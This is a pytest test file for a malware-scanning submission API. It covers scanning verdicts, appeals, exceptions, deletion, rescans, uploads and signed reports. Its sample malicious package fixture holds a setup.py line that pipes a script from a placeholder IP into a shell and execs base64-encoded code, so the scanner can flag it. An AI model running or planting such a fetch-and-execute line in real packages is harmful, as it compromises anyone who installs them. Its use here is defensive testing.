"""Software handed in over the API, scanned by the role, with verdict, appeal, exception and deletion."""

from __future__ import annotations

import hashlib
import io
import json
import random
import zipfile

import pytest
from sqlalchemy import delete

from api import uploads
from fengsui.blobs import FolderBlobs
from fengsui.errors import Retry
from fengsui.pipeline import together
from fengsui.registry.models import scan_job
from fengsui.signing import verify_bundle
from situation import submissions
from tests.unit.detectors.software.test_unpack import encrypted

SETUP = b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://203.0.113.9/x.sh | sh')\n"


def package(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, content in files:
            z.writestr(name, content)
    return out.getvalue()


BAD = package(("thing-1/setup.py", SETUP), ("thing-1/PKG-INFO", b"Name: thing\nVersion: 1\n"))
GOOD = package(("fine-1/setup.py", b"from setuptools import setup\nsetup(name='fine')\n"))


@pytest.fixture
def scanned(platform):
    """Run the role until nothing waits."""
    _, ctx, service = platform
    role = service.scan_role

    def run() -> None:
        while role.step(ctx.clock()):
            pass

    yield run
    role.close()


@pytest.fixture
def hand_in(client, scanned):
    def send(content: bytes, name: str = "thing-1.zip", scan: bool = True, **form) -> dict:
        answer = client.post("/api/v1/submissions", files=[("files", (name, content))], data={"org": "bank"} | form)
        assert answer.status_code == 202, answer.text
        if scan:
            scanned()
        return answer.json()["items"][0]

    return send


def detail(client, submission: dict) -> dict:
    answer = client.get(f"/api/v1/submissions/{submission['id']}")
    assert answer.status_code == 200, answer.text
    return answer.json()


def test_what_is_handed_in_waits_and_then_has_its_verdict_with_reasons_that_sum_to_it(client, hand_in, scanned):
    new = hand_in(BAD, scan=False)
    assert (new["state"], new["verdict"], new["sha256"]) == ("waiting", None, hashlib.sha256(BAD).hexdigest())
    assert detail(client, new)["reasons"] == []
    scanned()
    found = detail(client, new)
    assert (found["state"], found["verdict"], found["org"]) == ("done", "malicious", "bank")
    assert found["probability"] > 0.9
    assert any(r["file"].endswith("setup.py") and r["line"] == 2 for r in found["reasons"])
    assert all(r["text"]["en"] and r["text"]["zh"] for r in found["reasons"])
    listed = client.get("/api/v1/submissions", params={"verdict": "malicious", "org": "bank"}).json()["items"]
    assert new["id"] in [i["id"] for i in listed]


def test_the_same_content_again_is_not_scanned_again(client, hand_in, platform, monkeypatch):
    first = hand_in(GOOD, "fine-1.zip")
    monkeypatch.setattr(platform[2].scan_role._scanner, "scan", lambda *_: pytest.fail("it was scanned"))
    again = hand_in(GOOD, "fine-1.zip")
    assert detail(client, again)["verdict"] == detail(client, first)["verdict"] == "clean"
    assert detail(client, again)["files"] == detail(client, first)["files"] != []


def test_interactive_comes_before_bulk_and_nobody_crowds_out_others(client, hand_in, platform, scanned):
    scanned()
    ids = [hand_in(package((f"{i}.py", b"x = 1\n")), scan=False, lane="bulk")["id"] for i in range(2)]
    ids.append(hand_in(package(("now.py", b"x = 2\n")), scan=False)["id"])
    ctx, order = platform[1], []
    with ctx.registry.begin() as db:
        for i in range(3):
            job = submissions.claim(db, f"w{i}", 1_000, 2_000)
            order.append(job.submission)
            if i == 1:
                other = hand_in_row(db, "other")
        crowded = submissions.claim(db, "w3", 1_000, 2_000)
        db.rollback()
    assert (order[0], order[2]) == (ids[2], other)  # then the first organisation has two at work
    assert {order[1], crowded.submission} == set(ids[:2])  # of the same moment: in any order


def hand_in_row(db, org: str) -> str:
    return submissions.submit(db, submissions.New(org, "x", 1, "0" * 64, "package"), "me", 5)


def test_a_job_whose_worker_died_is_taken_by_another_and_the_dead_ones_outcome_is_not_written(platform):
    with platform[1].registry.begin() as db:
        db.execute(delete(scan_job))  # what other tests left; taken back below
        key = hand_in_row(db, "lease")
        mine = [submissions.claim(db, "a", 10, 100)]
        assert mine[0].submission == key
        assert submissions.claim(db, "b", 50, 200) is None
        second = submissions.claim(db, "b", 101, 200)
        assert (second.submission, second.tries) == (key, 2)
        done = submissions.Outcome("", "a", "a", "clean", 0.1)
        assert not submissions.finish(db, mine[0], "a", done, 150)
        assert submissions.finish(db, second, "b", done, 151)
        assert submissions.find(db, key).verdict == "clean"
        db.rollback()


def test_an_appeal_is_answered_once_and_upheld_accepts_the_content(client, hand_in):
    new = hand_in(BAD)
    url = f"/api/v1/submissions/{new['id']}"
    assert client.post(f"{url}/appeals", json={"reason": ""}).status_code == 422
    (appeal,) = client.post(f"{url}/appeals", json={"reason": "it is a test of ours"}).json()["appeals"]
    assert (appeal["state"], appeal["verdict"]) == ("open", "malicious")
    assert appeal["deadline"] > appeal["at"]
    assert client.post(f"{url}/appeals", json={"reason": "again"}).status_code == 409
    assert appeal["id"] in [a["id"] for a in client.get("/api/v1/appeals", params={"state": "open"}).json()["items"]]
    answer = {"state": "upheld", "answer": "it is"}
    done = client.post(f"/api/v1/appeals/{appeal['id']}/answer", json=answer)
    assert (done.json()["state"], done.json()["answered_by"]) == ("upheld", "admin")
    assert client.post(f"/api/v1/appeals/{appeal['id']}/answer", json=answer).status_code == 409
    found = detail(client, new)
    assert (found["verdict"], found["exception"]["reason"]) == ("malicious", "it is")
    assert client.delete(f"/api/v1/exceptions/{found['exception']['id']}").status_code == 204
    assert detail(client, new)["exception"] is None


def test_an_exception_holds_for_one_organisation_and_for_its_days(client, hand_in):
    mine, theirs = hand_in(BAD), hand_in(BAD, org="")
    asked = {"org": "bank", "sha256": mine["sha256"], "reason": "ours", "days": 3}
    made = client.post("/api/v1/exceptions", json=asked)
    assert made.status_code == 201
    assert detail(client, mine)["exception"]["id"] == made.json()["id"]
    assert detail(client, theirs)["exception"] is None
    assert client.post("/api/v1/exceptions", json=asked | {"days": 0}).status_code == 422
    assert client.post("/api/v1/exceptions", json=asked | {"org": "nobody"}).status_code == 404
    assert client.delete(f"/api/v1/exceptions/{made.json()['id']}").status_code == 204
    assert client.delete(f"/api/v1/exceptions/{made.json()['id']}").status_code == 409


def test_deletion_leaves_a_tombstone_and_nothing_else(client, hand_in, platform, tmp_path):
    content = package(("gone.py", b"x = 'unlike any other'\n"))
    one, two = hand_in(content, "gone-1.zip"), hand_in(content, "gone-1.zip")
    blobs = platform[1].blobs.within("bank")
    assert client.delete(f"/api/v1/submissions/{one['id']}").status_code == 204
    assert blobs.get(one["sha256"]) == content
    assert client.delete(f"/api/v1/submissions/{two['id']}").status_code == 204
    assert blobs.get(one["sha256"]) is None
    gone = client.get(f"/api/v1/submissions/{one['id']}", headers={"accept-language": "zh"})
    assert (gone.status_code, gone.json()["type"]) == (410, "/problems/gone")
    assert one["sha256"] in gone.json()["detail"]
    assert client.delete(f"/api/v1/submissions/{one['id']}").status_code == 410
    tombstone = next(i for i in client.get("/api/v1/submissions").json()["items"] if i["id"] == one["id"])
    assert (tombstone["name"], tombstone["size"], tombstone["state"]) == ("", 0, "deleted")


def test_the_queue_speaks_of_malicious_software_until_it_is_deleted(client, hand_in, scanned, platform):
    def queue(new: dict) -> list[dict]:
        for worker in (*platform[2].platform.writers, *platform[2].platform.folds):
            while worker.step(platform[1].clock()):
                pass
        found = client.get("/api/v1/alerts", params={"rule": "software.submission", "limit": 200}).json()["items"]
        return [a for a in found if a["subject"] == f"file:{new['sha256']}"]

    new = hand_in(package(("thing-2/setup.py", SETUP), ("thing-2/PKG-INFO", b"Name: thing\nVersion: 2\n")), "t-2.zip")
    (alert,) = queue(new)
    assert (alert["org"], alert["severity"]) == ("bank", 5)
    assert "t-2.zip" in alert["summary"]["en"]
    assert "恶意" in alert["summary"]["zh"]
    assert client.get("/api/v1/alerts/" + alert["id"]).json()["explanation"]["submission"] == new["id"]
    client.post(f"/api/v1/submissions/{new['id']}/rescan", json={})
    scanned()
    assert [a["id"] for a in queue(new)] == [alert["id"]]
    assert client.delete(f"/api/v1/submissions/{new['id']}").status_code == 204
    scanned()
    assert queue(new) == []
    assert client.get(f"/api/v1/submissions/{new['id']}").status_code == 410


def test_a_submission_that_is_deleted_while_it_waits_is_not_scanned(client, hand_in, scanned):
    new = hand_in(GOOD, scan=False)
    assert client.delete(f"/api/v1/submissions/{new['id']}").status_code == 204
    scanned()
    assert client.get(f"/api/v1/submissions/{new['id']}").status_code == 410


def test_content_that_is_gone_ends_incomplete(client, hand_in, scanned, platform):
    new = hand_in(package(("lost.py", b"y = 3\n")), scan=False)
    platform[1].blobs.within("bank").delete(new["sha256"])
    scanned()
    found = detail(client, new)
    assert (found["verdict"], [x["name"] for x in found["limits"]]) == ("incomplete", ["missing"])


def test_a_rescan_with_the_password_opens_what_was_shut(client, hand_in, scanned):
    new = hand_in(encrypted(SETUP, b"correct horse"))
    assert detail(client, new)["verdict"] == "incomplete"
    client.post(f"/api/v1/submissions/{new['id']}/rescan", json={"passwords": ["correct horse"]})
    scanned()
    assert detail(client, new)["verdict"] in ("malicious", "suspicious")


def test_a_rescan_is_asked_for_once(client, hand_in, scanned):
    new = hand_in(GOOD)
    url = f"/api/v1/submissions/{new['id']}/rescan"
    assert client.post(url, json={}).json()["state"] == "waiting"
    assert client.post(url, json={}).status_code == 409
    scanned()
    assert detail(client, new)["state"] == "done"


def test_a_new_model_judges_anew_what_is_kept_and_opens_no_content_for_it(client, hand_in, scanned, platform,
                                                                         monkeypatch):  # fmt: skip
    new, role = hand_in(package(("kept-1/setup.py", b"x = 'kept'\n"))), platform[2].scan_role
    assert detail(client, new)["analysis"].endswith(role.judgement)
    monkeypatch.setattr(role, "judgement", "another")
    monkeypatch.setattr(role, "began", int(platform[1].clock() * 1e6) + 1)
    monkeypatch.setattr(role, "_looked", 0.0)
    monkeypatch.setattr(role._scanner, "scan", lambda *_: pytest.fail("it was scanned"))
    scanned()
    found = detail(client, new)
    assert (found["state"], found["verdict"], found["analysis"][-8:]) == ("done", "clean", "+another")
    monkeypatch.setattr(role, "judgement", "older")
    monkeypatch.setattr(role, "began", int(platform[1].clock() * 1e6) - 1)
    monkeypatch.setattr(role, "_looked", 0.0)
    scanned()
    assert detail(client, new)["analysis"].endswith("+another")


def test_what_waits_to_be_judged_anew_can_be_scanned_at_once(client, hand_in, scanned, platform):
    new, now = hand_in(GOOD), int(platform[1].clock() * 1e6)
    with platform[1].registry.begin() as db:
        assert submissions.outdated(db, "another", now + 1, 500) > 0
        assert submissions.outdated(db, "another", now + 1, 500) == 0
    assert client.post(f"/api/v1/submissions/{new['id']}/rescan", json={}).status_code == 200
    scanned()
    assert detail(client, new)["state"] == "done"


def test_a_large_file_comes_in_parts_and_goes_on_where_it_was_cut_off(client, scanned):
    made = client.post("/api/v1/uploads", json={"name": "a/b/thing-1.zip", "size": len(BAD)}).json()
    url = f"/api/v1/uploads/{made['id']}"
    assert (made["name"], made["offset"]) == ("thing-1.zip", 0)
    octets = {"content-type": "application/octet-stream"}
    first = client.put(url, params={"offset": 0}, content=BAD[:100], headers=octets)
    assert first.json()["offset"] == 100
    assert client.put(url, params={"offset": 0}, content=BAD[:100], headers=octets).status_code == 409
    assert client.post(f"{url}/submit", json={"org": "bank"}).status_code == 409
    assert client.get(url).json()["offset"] == 100
    assert client.put(url, params={"offset": 100}, content=BAD[100:] + b"x", headers=octets).status_code == 413
    assert client.put(url, params={"offset": 100}, content=BAD[100:], headers=octets).status_code == 200
    new = client.post(f"{url}/submit", json={"org": "bank"}).json()
    scanned()
    assert detail(client, new)["verdict"] == "malicious"
    assert client.get(url).status_code == 404
    too_large = client.put(url, params={"offset": 0}, content=b"x",
                           headers=octets | {"content-length": str(uploads.PART + 1)})  # fmt: skip
    assert too_large.status_code == 413


def test_what_does_not_fit_is_refused(client):
    assert client.post("/api/v1/submissions", data={"org": "bank"}).status_code == 422
    wrong = client.post("/api/v1/submissions", files=[("files", ("x", b"x"))], data={"org": "nobody"})
    assert (wrong.status_code, wrong.json()["detail"]) == (404, "There is no organisation nobody.")
    files = [("files", (f"{i}", b"x")) for i in range(21)]
    many = client.post("/api/v1/submissions", files=files, data={"org": "bank"})
    assert many.status_code == 413
    assert client.get("/api/v1/submissions/" + "0" * 32).status_code == 404
    assert json.loads(client.get("/api/v1/submissions?cursor=x").text)["type"] == "/problems/unknown-cursor"


def test_a_report_is_had_in_every_form_and_its_signature_holds(client, hand_in, platform):
    new = hand_in(BAD)
    for form, begins in (("html", b"<!doctype html>"), ("pdf", b"%PDF-"), ("sarif", b"{"), ("cyclonedx", b"{"),
                         ("zip", b"PK")):
        answer = client.get(f"/api/v1/submissions/{new['id']}/report", params={"form": form, "lang": "en"})
        assert answer.status_code == 200, answer.text
        assert answer.content.startswith(begins)
        assert answer.headers["x-content-type-options"] == "nosniff"
    key = client.get("/api/v1/report-key").json()["key"]
    said = verify_bundle(answer.content, key)
    assert "report.pdf" in said["files"]
    page = client.get(f"/api/v1/submissions/{new['id']}/report", params={"form": "html", "lang": "zh"}).text
    assert "示例银行" in page
    assert new["sha256"] in page
    assert client.get(f"/api/v1/submissions/{'0' * 32}/report").status_code == 404


def test_there_is_no_report_before_a_verdict(client, hand_in):
    waits = hand_in(package(("never-seen", b"before")), scan=False)
    assert client.get(f"/api/v1/submissions/{waits['id']}/report").status_code == 409


def rows(platform, kind: str, submission: str) -> list[dict]:
    p = platform[2].platform
    together([], [*p.writers], p.clock)
    return p.store.query(f"SELECT * FROM {kind} WHERE submission = {{s:String}}", {"s": submission}).to_pylist()


def test_files_and_verdict_are_rows_until_the_submission_is_deleted(client, hand_in, scanned, platform):
    inner = b"print('a file of its own, to be looked for by its hash')"
    new = hand_in(package(("rows-1/PKG-INFO", b"Name: rows\nVersion: 1\n"), ("rows-1/setup.py", SETUP),
                          ("rows-1/x.py", inner)))
    artifacts, (scan,) = rows(platform, "artifact", new["id"]), rows(platform, "scan", new["id"])
    assert {hashlib.sha256(inner).hexdigest(), new["sha256"]} <= {a["sha256"] for a in artifacts}
    shown = detail(client, new)
    assert (scan["verdict"], scan["org"], scan["purl"]) == (shown["verdict"], "bank", "pkg:pypi/rows@1")
    assert scan["reasons"]
    client.post(f"/api/v1/submissions/{new['id']}/rescan", json={"passwords": ["another"]})
    scanned()
    assert len(rows(platform, "scan", new["id"])) == 1  # what was told before is replaced
    assert len(rows(platform, "artifact", new["id"])) == len(artifacts)
    client.delete(f"/api/v1/submissions/{new['id']}")
    scanned()
    assert rows(platform, "scan", new["id"]) == rows(platform, "artifact", new["id"]) == []


def code(seed: int) -> bytes:
    r = random.Random(seed)
    names = ["".join(r.choices("abcdefghijklmnopqrstuvwxyz", k=12)) for _ in range(400)]
    return "\n".join(f"def {n}(x):\n    return {n[:5]}(x)" for n in names).encode()


def test_what_resembles_it_is_named(client, hand_in, platform):
    first = hand_in(package(("like-1/setup.py", SETUP), ("like-1/a.py", code(1))), "like-1.zip")
    variant = hand_in(package(("liker-1/setup.py", SETUP), ("liker-1/a.py", code(1) + b"\nVERSION = 2\n")),
                      "liker-1.zip")
    other = hand_in(package(("other-1/a.py", code(2))), "other-1.zip")
    rows(platform, "scan", first["id"])
    items = client.get(f"/api/v1/submissions/{variant['id']}/similar").json()["items"]
    assert [(x["id"], x["name"]) for x in items if x["id"] in (first["id"], other["id"])] == [(first["id"],
                                                                                               "like-1.zip")]
    assert items[0]["alike"] > 0.7
    client.delete(f"/api/v1/submissions/{first['id']}")
    after = client.get(f"/api/v1/submissions/{variant['id']}/similar").json()["items"]
    assert first["id"] not in [x["id"] for x in after]


def test_what_is_new_since_the_release_before_is_a_reason(client, hand_in):
    quiet = json.dumps({"name": "grow", "version": "1"}).encode()
    hand_in(package(("package/package.json", quiet), ("package/i.js", b"1")), "grow-1.tgz")
    loud = json.dumps({"name": "grow", "version": "2", "scripts": {"postinstall": "node x.js"}}).encode()
    new = hand_in(package(("package/package.json", loud), ("package/i.js", b"1")), "grow-2.tgz")
    assert "since.hook" in {r["rule"] for r in detail(client, new)["reasons"]}


def test_while_the_disk_of_contents_is_full_nothing_is_lost_and_the_queue_goes_on_after(client, hand_in, scanned,
                                                                                        platform,
                                                                                       monkeypatch):  # fmt: skip
    waits = hand_in(package(("full-1/setup.py", SETUP), ("full-1/x", b"no room")), "full-1.zip", scan=False)
    role = platform[2].scan_role
    kind = type(platform[1].blobs.within("bank"))
    real = kind.put

    def full(self, sha256: str, content: bytes) -> None:
        raise Retry("the blob store: No space left on device")

    monkeypatch.setattr(kind, "put", full)
    for _ in range(2 * submissions.TRIES):
        with pytest.raises(Retry, match="No space"):
            role.step(platform[1].clock())
    monkeypatch.setattr(kind, "put", real)
    scanned()
    shown = detail(client, waits)
    assert (shown["state"], shown["limits"]) == ("done", [])
    assert shown["verdict"] in ("malicious", "suspicious")


def test_a_store_of_contents_that_is_full_says_so(tmp_path):
    blobs = FolderBlobs(tmp_path / "file-where-a-folder-must-be")
    (tmp_path / "file-where-a-folder-must-be").write_text("")
    with pytest.raises(Retry, match="blob store"):
        blobs.put(hashlib.sha256(b"x").hexdigest(), b"x")
